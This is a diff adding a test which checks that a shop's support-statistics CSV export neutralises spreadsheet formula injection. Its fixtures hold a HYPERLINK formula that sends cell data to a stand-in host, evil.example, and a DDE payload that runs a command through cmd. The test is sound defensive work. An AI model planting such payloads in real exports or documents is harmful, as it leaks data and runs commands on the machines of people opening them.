@@ -163,6 +163,29 @@ def test_the_tables_export_as_csv_and_the_page_data_as_json(shop: sessionmaker[S
         stats_csv(stats, "passwords")
 
 
+def test_shopper_text_in_the_csv_never_runs_as_a_spreadsheet_formula(
+    sessions: sessionmaker[Session],
+) -> None:
+    """A shopper types a formula the assistant cannot answer; the shop owner opens the gaps table
+    in a spreadsheet, which would run it (send data away, or open a link) without the quote."""
+    attack = '=HYPERLINK("https://evil.example/?"&A1,"refund")'
+    with sessions.begin() as session:
+        _conversation(
+            session,
+            "x",
+            DAY,
+            [("shopper", attack, 0, None), ("bot", REPHRASE, 2, None)],
+            escalated=("assistant", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        )
+    stats = load_support_stats(sessions, date(2026, 11, 16), date(2026, 11, 17))
+
+    gaps = list(csv.reader(io.StringIO(stats_csv(stats, "gaps"))))
+    handovers = list(csv.reader(io.StringIO(stats_csv(stats, "handovers"))))
+
+    assert gaps[1][1:] == ["'" + attack, "'" + attack]
+    assert handovers[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
 def test_the_cli_prints_the_headline_and_writes_every_table(
     shop: sessionmaker[Session], tmp_path: Path
 ) -> None:
